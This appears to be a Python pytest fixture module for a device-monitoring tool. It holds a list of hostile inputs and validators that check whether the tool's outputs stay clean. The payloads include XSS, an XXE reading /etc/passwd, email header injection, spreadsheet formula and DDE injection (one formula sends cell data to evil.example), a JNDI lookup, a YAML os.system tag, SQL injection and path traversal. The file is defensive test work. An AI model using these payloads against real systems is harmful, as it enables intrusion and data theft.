"""Texts that a hostile or broken device may send, and who judges what became of them."""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import fields, is_dataclass
from email.message import EmailMessage
from typing import Any
from xml.etree import ElementTree

import pytest

HOSTILE = {
    "markup": "</value><script>alert(1)</script><!-- &amp; &xxe; ]]>",
    "doctype": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "rich": "[bold red]x[/bold red] [link=https://evil.example]y[/link] [/] \\[z] \\",
    "emoji code": ":bomb: :warning: :printer:",
    "ansi": "a\x1b[2J\x1b]0;title\x07\x1b[31mb\x9b31mc\x08\x7f",
    "nul": "a\x00b",
    "line breaks": "a\r\n2026-01-01 00:00:00+0000 ERROR pagemeter: forged\rb\x0bc\x0cd\x85e\u2028f\u2029g",
    "header": "a\r\nBcc: everybody@evil.example\r\n\r\nb",
    "bidi": "a\u202egnp.exe\u2066\u2069\u200e\u200f\u061cb",
    "invisible": "a\u200bb\u200d\u2060\ufeffc\u00ad\U000e0041",
    "surrogates": "a\ud800b\udfffc\udbff\udc00d",
    "no characters": "a\ufffeb\uffffc\U0001ffffd\ue000e",
    "formula": '=HYPERLINK("https://evil.example?"&A1)',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "wide formula": "\uff1d1+1",
    "second cell": 'a;=1+1;"=2+2;+3,=4\t@5',
    "tab formula": "\t=1+1\r=2",
    "quoted formula": '"=1+1',
    "mqtt": "#/+/$SYS/../a",
    "template": "{{ states('sun.sun') }}{% raw %}{# x #}${jndi:ldap://x}%s%n{0}{site}",
    "yaml": "!!python/object:os.system &a *b : - [x, {y: z}] | > # no",
    "json": '"},{"a":"\\u0000\\',
    "sql": "'; DROP TABLE document; --",
    "path": "../../../../../../tmp/evil\\..\\x",
    "absolute path": "/etc/passwd",
    "device id": "MFG:x;MDL:y;SN:z;CMD:PJL;",
    "long": "<&\"'=[x]{{y}}\x1b\u202e" * 5000,
}
"""By the name of what they are; the last has 75,000 characters."""


_RECORD = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d[+-]\d{4} [A-Z]+ [a-z][\w.]*: ")
# An IEEE 1284 device id; no other text of a device has so many.
_MOST = 2048
_CELL_BEGINS = re.compile("[\\s\"']*[=+@\uff1d\uff0b\uff20\uff0d-]")

_TEMPLATES = (
    r"\{\{ value_json\.get\('[A-Za-z0-9_-]+'\) \}\}",
    r"\{\{ \{'alerts': value_json\.get\('alert_list', \[\]\)\} \| tojson \}\}",
    r"\{\{ value_json\.body\.started_at \}\}",
    r"\{\{ \(value_json\.body\.get\('last_error'\) \| string\)\[:255\] \}\}",
)
_HEADERS = (
    *("From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "X-Mailer", "X-Pagemeter-Report"),
    *("MIME-Version", "Content-Type", "X-Peer", "X-MailFrom", "X-RcptTo"),
)


class Judges:
    """Each says what is wrong; nothing where all is well."""

    @staticmethod
    def unclean(text: str, *, lines: bool = False) -> list[str]:
        """Return what may steer a terminal, hide or turn round what a person reads, or end a line; each once."""
        return sorted({c for c in text if not c.isprintable() and not (lines and c == "\n")})

    @staticmethod
    def texts_in(value: Any) -> Iterator[str]:
        """Yield every text of a value of JSON or of the model, the keys too."""
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict):
            for key, one in value.items():
                yield from Judges.texts_in(key)
                yield from Judges.texts_in(one)
        elif isinstance(value, list | tuple | set | frozenset):
            for one in value:
                yield from Judges.texts_in(one)
        elif is_dataclass(value):
            for field in fields(value):
                yield from Judges.texts_in(getattr(value, field.name))

    @staticmethod
    def dirty(value: Any) -> list[str]:
        """Return the texts of a value that are not clean, or longer than any text of a device may be."""
        return [text[:80] for text in Judges.texts_in(value) if Judges.unclean(text) or len(text) > _MOST]

    @staticmethod
    def not_records(log: str, *, as_json: bool) -> list[str]:
        """Return the lines of a log that are no record and no indented line of a trace."""
        found = []
        for line in log.split("\n")[:-1]:
            if Judges.unclean(line):
                found.append(line)
            elif as_json:
                try:
                    record = json.loads(line)
                except ValueError:
                    found.append(line)
                else:
                    found += [line] if {"at", "level", "logger", "message"} - record.keys() else []
            elif not _RECORD.match(line) and not line.startswith("  "):
                found.append(line)
        return found

    @staticmethod
    def formulas(cells: Iterable[str]) -> list[str]:
        """Return the cells that a spreadsheet would take for a formula."""
        return [cell for cell in cells if not cell.startswith("'") and _CELL_BEGINS.match(cell)]

    @staticmethod
    def strange_topics(topics: Iterable[str]) -> list[str]:
        """Return the topics that hold more than our ids do."""
        return sorted({topic for topic in topics if not re.fullmatch("[A-Za-z0-9_/-]+", topic) or "//" in topic})

    @staticmethod
    def strange_templates(config: dict[str, Any]) -> list[str]:
        """Return the templates of an announcement to Home Assistant that hold more than keys of ours."""
        templates = [
            value
            for component in config["cmps"].values()
            for key, value in component.items()
            if key.endswith(("_tpl", "_template"))
        ]
        return [one for one in templates if not any(re.fullmatch(known, one) for known in _TEMPLATES)]

    @staticmethod
    def strange_headers(mail: EmailMessage) -> list[str]:
        """Return the headers of a mail that are none of ours, and those with more than a line of plain text."""
        return [name for name, value in mail.items() if name not in _HEADERS or Judges.unclean(str(value))]

    @staticmethod
    def parts_of(workbook: bytes) -> dict[str, ElementTree.Element]:
        """Read the parts of an XLSX workbook."""
        with zipfile.ZipFile(io.BytesIO(workbook)) as packed:
            return {
                name: ElementTree.fromstring(packed.read(name))  # noqa: S314 - we wrote it
                for name in packed.namelist()
                if name.endswith(".xml")
            }

    @staticmethod
    def formulas_in_workbook(parts: Mapping[str, ElementTree.Element]) -> list[str]:
        """Return what a workbook would calculate, fetch or follow."""
        banned = {"f", "hyperlink", "externalReference", "ddeLink"}
        return [
            f"{name}: {element.tag}"
            for name, root in parts.items()
            for element in root.iter()
            if element.tag.rpartition("}")[2] in banned
        ]


@pytest.fixture(scope="session")
def judges() -> Judges:
    """Those who judge."""
    return Judges()


@pytest.fixture(scope="session")
def texts() -> Mapping[str, str]:
    """All texts by their names."""
    return HOSTILE


@pytest.fixture(params=list(HOSTILE.values()), ids=list(HOSTILE))
def hostile(request: pytest.FixtureRequest) -> str:
    """One text after the other."""
    text: str = request.param
    return text
